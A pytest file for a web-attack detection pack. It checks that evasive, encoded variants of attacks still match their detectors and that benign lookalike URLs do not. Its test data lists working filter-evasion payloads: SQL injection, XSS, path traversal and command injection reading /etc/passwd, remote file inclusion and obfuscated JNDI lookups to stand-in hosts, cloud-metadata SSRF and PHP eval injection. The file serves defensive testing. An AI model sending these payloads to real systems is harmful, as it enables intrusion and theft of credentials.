"""Evasive variants of each web attack class still match their detector."""

from __future__ import annotations

import pytest

from .helpers import detect_http

CASES = {
    "web.sqli": [
        "/p?id=1%2527%2520UNION%2520SELECT%2520pass%2520FROM%2520users",
        "/p?id=1+UnIoN+sElEcT+1,2",
        "/p?id=1/**/union/**/select/**/1",
        "/p?id=1%u0027%u0020or%u00201=1--",
        "/p?id=1&#39; OR &#39;1&#39;=&#39;1",
        "/p?id=%EF%BC%87%20%EF%BD%8F%EF%BD%92%201=1",
        "/p?id=1%09and%09sleep(5)",
    ],
    "web.xss": [
        "/s?q=%253Cscript%253Ealert(1)%253C/script%253E",
        "/s?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E",
        "/s?q=&lt;img src=x onerror=alert(1)&gt;",
        "/s?q=%u003csvg/onload=confirm(1)%u003e",
        "/s?q=%EF%BC%9Cscript%EF%BC%9E",
    ],
    "web.path_traversal": [
        "/f?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/f?file=..%c0%af..%c0%afetc/passwd",
        "/f?file=....//....//etc/passwd",
        "/f/..;/..;/etc/passwd",
        "/f?file=..%5c..%5cwindows%5cwin.ini",
        "/f?file=%2E%2E/%2E%2E/EtC/PaSsWd",
    ],
    "web.rfi": [
        "/i.php?page=hTtP://evil.example/s.txt?",
        "/i.php?page=%2568ttp%253A%252F%252Fevil.example%252Fs.txt%253F",
        "/i.php?file=PHP://filter/resource=index",
    ],
    "web.command_injection": [
        "/c?h=1%253Bcat%2520/etc/passwd",
        "/c?h=1%7C%7Cwhoami",
        "/c?h=1%0aid",
        "/c?h=%60id%60",
        "/c?h=1;${IFS}cat${IFS}/etc/passwd",
    ],
    "web.jndi_lookup": [
        "/?x=%2524%257Bjndi%253Aldap%253A%252F%252Fe.example%252Fa%257D",
        "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}",
        "/?x=${jNdI:lDaP://e.example/a}",
    ],
    "web.ssrf_metadata": [
        "/f?u=http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data",
        "/f?u=http://0xa9fea9fe/latest/",
        "/f?u=http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
        "/f?u=gopher://127.0.0.1:6379/_",
    ],
    "web.code_injection": [
        "/i.php?c=SyStEm(%27id%27)",
        "/i.php?c=%2565val%2528base64_decode(%27aWQ=%27))",
        "/i.php?c=%3C%3Fphp%20phpinfo()%3B%3F%3E",
        "/i.php?c=%7B%7B7*7%7D%7D",
    ],
    "web.sensitive_files": [
        "/%2e%65%6e%76",
        "/.GIT/config",
        "//.//.env",
        "/WP-CONFIG.PHP.BAK",
        "/backup.SQL",
    ],
}
PAIRS = [(detector, target) for detector, targets in CASES.items() for target in targets]


class TestEvasiveVariants:
    @pytest.mark.parametrize(("detector", "target"), PAIRS)
    def test_variant_detected(self, detector: str, target: str) -> None:
        """The evasive request still yields a finding from its class's detector."""
        assert [f.detector_id for f in detect_http(detector, [target])] == [detector]


class TestBenignLookalikes:
    @pytest.mark.parametrize(
        "target",
        [
            "/search?q=union+station+selection",
            "/blog/select-the-best-laptop?ref=home",
            "/search?q=O%27Reilly+books",
            "/products?page=2&sort=price&order=asc",
            "/static/css/app.css?v=1.2.3",
            "/api/v1/products?ids=1,2,3&fields=name,price",
        ],
    )
    def test_benign_request_not_flagged(self, target: str) -> None:
        """Ordinary requests that share words with attacks trigger no web-attack detector."""
        from .helpers import access_line, pack_definitions, parse, run

        defs = [d for d in pack_definitions() if d.pack == "web-attacks"]
        assert run(defs, parse("combined", [access_line(target)])) == []
